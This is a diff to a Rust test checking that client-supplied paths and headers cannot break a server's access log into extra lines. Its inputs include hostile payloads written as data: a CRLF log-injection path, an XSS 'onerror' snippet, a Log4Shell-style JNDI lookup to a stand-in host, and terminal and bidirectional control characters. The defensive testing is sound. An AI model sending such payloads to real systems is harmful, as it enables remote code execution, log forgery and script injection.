@@ -85,17 +85,19 @@ fn nothing_that_a_client_says_breaks_a_line_of_the_log() {
         let origin = Origin::saying(|_| fresh("x"));
         let serving = Serving::with(&origin, "", &format!("log: {{ access: {form}, file: access.log }}"));
         let file = serving.room.path("access.log");
-        let requests = [
+        for (before, (target, agent)) in [
             ("/%0d%0a127.0.0.1%20-%20evil", "a"),
             ("/x\"%22\\", "\"evil\" \\\" x"),
             ("/", "\u{9b}31m \u{85} \u{202e} <img src=x onerror=alert(1)>"),
             ("/{\"a\":1}", "${jndi:ldap://evil/x}"),
             ("/", "caf\u{e9}\t tab"),
-        ];
-        for ((target, agent), lines) in requests.into_iter().zip(1..) {
+        ]
+        .into_iter()
+        .enumerate()
+        {
             let heard = serving.get(target, &format!("User-Agent: {agent}\r\nReferer: {agent}\r\n"));
             until("it is written", || {
-                std::fs::read_to_string(&file).is_ok_and(|all| all.lines().count() == lines)
+                std::fs::read_to_string(&file).is_ok_and(|all| all.lines().count() == before + 1)
             });
             assert!(heard.status == 200 || heard.status == 400, "{}", heard.status);
         }
